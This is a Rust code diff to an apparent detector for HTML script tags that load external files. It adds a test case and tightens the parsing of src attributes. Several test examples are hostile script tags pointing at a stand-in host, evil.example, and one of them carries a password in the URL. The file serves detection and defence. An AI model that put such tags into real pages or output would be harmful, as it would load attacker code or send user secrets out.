@@ -131,6 +131,7 @@ pub(super) const TAG: Rule = Rule {
         example("<SCRIPT SRC=//evil.example/.j>", "<SCRIPT"),
         example("<script\nsrc='//evil.example'>", "<script"),
         example("<script src='https://evil.example/a?d=my+password+is+hunter2'>", "<script"),
+        example("<script src=' //evil.example/a.js'>", "<script"),
         example("<script title=\" src='https://ok.example'\">alert(1)</script>", "<script"),
         example("```\nlet a;\n```\n<script>alert(1)</script>", "<script"),
         example("<div>\n```html\n<script>alert(1)</script>", "<script"),
@@ -181,13 +182,10 @@ fn loads_a_file(attributes: &[u8]) -> bool {
         rest = past(rest, blanks).1;
         let (name, behind) = past(rest, |byte| !blanks(byte) && *byte != b'=');
         let (b"=", value) = behind.trim_ascii_start().split_at_checked(1).unwrap_or_default() else {
-            if behind.is_empty() {
-                return sources == 1;
-            }
-            // `=` at the start of a name, or a name alone.
+            // A name alone.
             rest = behind;
-            if name.is_empty() {
-                return false;
+            if rest.is_empty() {
+                return sources == 1;
             }
             continue;
         };
@@ -206,7 +204,7 @@ fn loads_a_file(attributes: &[u8]) -> bool {
         };
         if name.eq_ignore_ascii_case(b"src") {
             sources += 1;
-            let is_here = !value.starts_with(b"//") && !value.iter().any(|byte| b":\\".contains(byte));
+            let is_here = !value.starts_with(b"//") && !value.iter().any(|byte| b":\\& \t\n".contains(byte));
             let is_told = || payload::in_url(value).is_some_and(|carried| carried > Confidence::Low);
             if !(is_here || value.starts_with(b"https://") && !is_told()) {
                 return false;
